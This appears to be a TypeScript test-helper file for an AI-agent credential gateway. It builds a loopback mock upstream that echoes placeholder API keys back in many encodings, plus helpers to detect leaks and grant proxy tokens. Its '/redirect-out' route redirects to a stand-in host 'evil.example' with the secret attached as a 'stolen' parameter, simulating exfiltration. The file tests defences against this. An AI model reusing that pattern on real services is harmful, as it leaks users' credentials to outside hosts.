/**
 * Shared pieces of the gateway tests: a real key manager with agent access (memory or file
 * storage), a real upstream HTTP server on loopback that records what it received and can echo
 * the credential back in every form, and helpers to grant a proxy token.
 */
import { Buffer } from 'node:buffer';
import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { agentAccess } from '../../src/access/index.js';
import type { AgentAccess, AgentAccessOptions, RegisterToolInput } from '../../src/access/types.js';
import type { StorageAdapter } from '../../src/ports/storage.js';
import { createTestKeyManager } from '../../src/testing/index.js';

/** The real secrets: must reach the upstream, never the agent. Chosen to have `/`, `+` and `=`. */
export const SECRETS = {
  openai: 'sk-proj-R3alOpenAIKey/with+slash=and_plus_0123456789abcdefXYZ',
  anthropic: 'sk-ant-api03-RealAnthropicKey+/=_ABCDEFGHIJKLMNOPQRSTUVWX-0123',
  stripe: 'sk_live_51RealStripeKeyABCDEFGHIJKLMNOPQRSTUVWXYZabcdef012345',
  github: 'ghp_RealGitHubTokenABCDEFGHIJKLMNOPQRSTUVWXYZ012',
} as const;

/** Every form of a secret a careless consumer might see (independent of the gateway's own list). */
export function leakForms(secret: string): string[] {
  const forms = new Set([secret, encodeURIComponent(secret), Buffer.from(secret).toString('hex')]);
  for (const prefix of ['', 'Bearer ', 'x', 'xy']) {
    for (const suffix of ['', ':']) {
      const b64 = Buffer.from(`${prefix}${secret}${suffix}`).toString('base64');
      // the characters that depend only on the secret: drop the first 2 and last 3 to be safe
      const core = b64.slice(Math.ceil((prefix.length * 4) / 3) + 1, -3);
      forms.add(core);
      forms.add(core.replaceAll('+', '-').replaceAll('/', '_'));
    }
  }
  return [...forms];
}

/** Finds a leak of `secret` in `text`; returns the form found or null. */
export function findLeak(text: string, secret: string): string | null {
  return leakForms(secret).find((f) => text.includes(f)) ?? null;
}

/** One request the upstream received. */
export interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A loopback upstream. */
export interface Upstream {
  origin: string;
  port: number;
  seen: Seen[];
  close(): Promise<void>;
}

/** The credential the upstream received, as the upstream would extract it. */
function receivedSecret(h: IncomingHttpHeaders): string {
  const xk = h['x-api-key'];
  if (typeof xk === 'string') return xk;
  const auth = h.authorization ?? '';
  if (auth.startsWith('Bearer ')) return auth.slice(7);
  if (auth.startsWith('Basic ')) return Buffer.from(auth.slice(6), 'base64').toString().replace(/:$/, '');
  return '';
}

/** The credential echoed in every form: what a hostile or buggy upstream sends back. */
export function echoesOf(h: IncomingHttpHeaders): Record<string, string> {
  const s = receivedSecret(h);
  return {
    raw: s,
    header: String(h.authorization ?? h['x-api-key'] ?? ''),
    base64: Buffer.from(String(h.authorization ?? s)).toString('base64'),
    base64url: Buffer.from(`k=${s}`).toString('base64url'),
    percent: encodeURIComponent(s),
    hex: Buffer.from(s).toString('hex'),
  };
}

function json(res: import('node:http').ServerResponse, status: number, body: unknown, headers = {}): void {
  const text = JSON.stringify(body);
  res.writeHead(status, {
    'content-type': 'application/json',
    'content-length': Buffer.byteLength(text),
    ...headers,
  });
  res.end(text);
}

/**
 * A real upstream on 127.0.0.1. Routes (any prefix): OpenAI chat completions (JSON and SSE),
 * models, Anthropic messages, Stripe charges, `/echo` (headers back), `/gzip` (a gzipped echo),
 * `/redirect-in`, `/redirect-out?to=`, `/sse-echo` (the secret split across SSE writes).
 * Every JSON answer carries `echo`: the received credential in every form.
 */
export async function startUpstream(): Promise<Upstream> {
  const seen: Seen[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('error', () => res.destroy());
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString();
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      const path = (req.url ?? '/').split('?')[0] as string;
      const echo = echoesOf(req.headers);
      const secret = echo.raw as string;
      if (path.endsWith('/chat/completions')) {
        const parsed = JSON.parse(body || '{}') as { stream?: boolean; model?: string };
        if (parsed.stream) {
          res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
          const words = ['Hel', 'lo ', secret];
          let i = 0;
          const tick = () => {
            if (i < words.length) {
              const chunk = {
                id: 'chatcmpl-1',
                object: 'chat.completion.chunk',
                created: 1,
                model: parsed.model,
                choices: [{ index: 0, delta: { content: words[i] }, finish_reason: null }],
              };
              const line = `data: ${JSON.stringify(chunk)}\n\n`;
              // split each event in two writes, the second in the middle of the secret
              const cut = Math.floor(line.length / 2);
              res.write(line.slice(0, cut));
              setTimeout(() => {
                res.write(line.slice(cut));
                i++;
                setTimeout(tick, 5);
              }, 5);
            } else {
              res.end('data: [DONE]\n\n');
            }
          };
          tick();
          return;
        }
        json(
          res,
          200,
          {
            id: 'chatcmpl-1',
            object: 'chat.completion',
            created: 1,
            model: parsed.model ?? 'm',
            choices: [
              { index: 0, message: { role: 'assistant', content: `echo ${secret}` }, finish_reason: 'stop' },
            ],
            usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
            echo,
          },
          { 'x-echo': echo.header, 'x-request-id': 'req_1' },
        );
        return;
      }
      if (path.endsWith('/models')) {
        json(res, 200, {
          object: 'list',
          data: [{ id: 'gpt-test', object: 'model', created: 1, owned_by: echo.raw }],
        });
        return;
      }
      if (path.endsWith('/messages')) {
        json(
          res,
          200,
          {
            id: 'msg_1',
            type: 'message',
            role: 'assistant',
            model: 'claude-test',
            content: [{ type: 'text', text: `echo ${secret}` }],
            stop_reason: 'end_turn',
            stop_sequence: null,
            usage: { input_tokens: 1, output_tokens: 1 },
            echo,
          },
          { 'x-echo': echo.base64 },
        );
        return;
      }
      if (path.endsWith('/charges')) {
        const charge = {
          id: 'ch_1',
          object: 'charge',
          amount: 100,
          currency: 'usd',
          description: secret,
          echo,
        };
        if (req.method === 'POST') json(res, 200, charge, { 'x-echo': echo.percent });
        else json(res, 200, { object: 'list', data: [charge], has_more: false, url: '/v1/charges' });
        return;
      }
      if (path.endsWith('/echo')) {
        json(
          res,
          200,
          { headers: req.headers, echo },
          { 'x-echo': echo.header, 'set-cookie': 'session=abc' },
        );
        return;
      }
      if (path.endsWith('/gzip')) {
        const zipped = gzipSync(JSON.stringify({ echo }));
        res.writeHead(200, {
          'content-type': 'application/json',
          'content-encoding': 'gzip',
          'content-length': zipped.length,
        });
        res.end(zipped);
        return;
      }
      if (path.endsWith('/zstd')) {
        res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'zstd' });
        res.end('not really zstd');
        return;
      }
      if (path.endsWith('/redirect-in')) {
        res.writeHead(302, { location: '/v1/models?page=2', 'content-length': 0 });
        res.end();
        return;
      }
      if (path.endsWith('/redirect-out')) {
        const to = new URL(req.url ?? '/', 'http://x').searchParams.get('to') ?? 'http://evil.example/';
        res.writeHead(302, { location: `${to}?stolen=${encodeURIComponent(secret)}`, 'content-length': 0 });
        res.end();
        return;
      }
      if (path.endsWith('/slow')) return; // never answers
      json(res, 404, { error: 'no route', path });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** A real key manager with agent access; memory storage unless one is given. */
export function setupAccess(
  storage?: StorageAdapter,
  options?: AgentAccessOptions,
): {
  km: ReturnType<typeof createTestKeyManager>['km'];
  access: AgentAccess;
} {
  const { km } = createTestKeyManager(storage === undefined ? {} : { storage });
  return { km, access: agentAccess(km, options) };
}

/** Registers a tool (auto approval) whose secret is `secretValue`. */
export async function addTool(
  km: ReturnType<typeof setupAccess>['km'],
  access: AgentAccess,
  input: Omit<RegisterToolInput, 'secret' | 'approval'> & { secretValue: string },
): Promise<void> {
  const { secretValue, ...tool } = input;
  const name = `${tool.id.toUpperCase().replaceAll('-', '_')}_KEY`;
  await km.secrets.set(name, secretValue);
  await access.tools.register({ ...tool, secret: name, approval: 'auto' });
}

/** Opens a session on a tool for an agent; returns the proxy token. */
export async function grant(access: AgentAccess, toolId: string, agentId = 'agent-1'): Promise<string> {
  const req = await access.requests.create({ toolId, agentId, justification: 'gateway test' });
  const session = await access.sessions.open(req.id);
  return session.token;
}

/** The reasons of every `access.violation` audit event so far. */
export async function violations(km: ReturnType<typeof setupAccess>['km']): Promise<string[]> {
  const page = await km.audit.list({ type: 'access.violation', limit: 1000 });
  return page.items.map((e) => String(e.data.reason));
}

/** A raw HTTP/1.1 exchange over a socket (for targets and headers fetch would not send). */
export async function rawRequest(port: number, text: string): Promise<{ status: number; body: string }> {
  const { connect } = await import('node:net');
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.end(text));
    let out = '';
    socket.on('data', (d: Buffer) => {
      out += d.toString();
    });
    socket.on('error', reject);
    socket.on('close', () => {
      const status = Number(out.slice(9, 12));
      resolve({ status, body: out.slice(out.indexOf('\r\n\r\n') + 4) });
    });
  });
}

/** A plain node:http request (no fetch normalization), resolving with status, headers and body. */
export function call(
  url: string,
  options: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
  return new Promise((resolve, reject) => {
    const r = request(url, { method: options.method ?? 'GET', headers: options.headers ?? {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          body: Buffer.concat(chunks).toString(),
        }),
      );
      res.on('error', reject);
    });
    r.on('error', reject);
    r.end(options.body);
  });
}
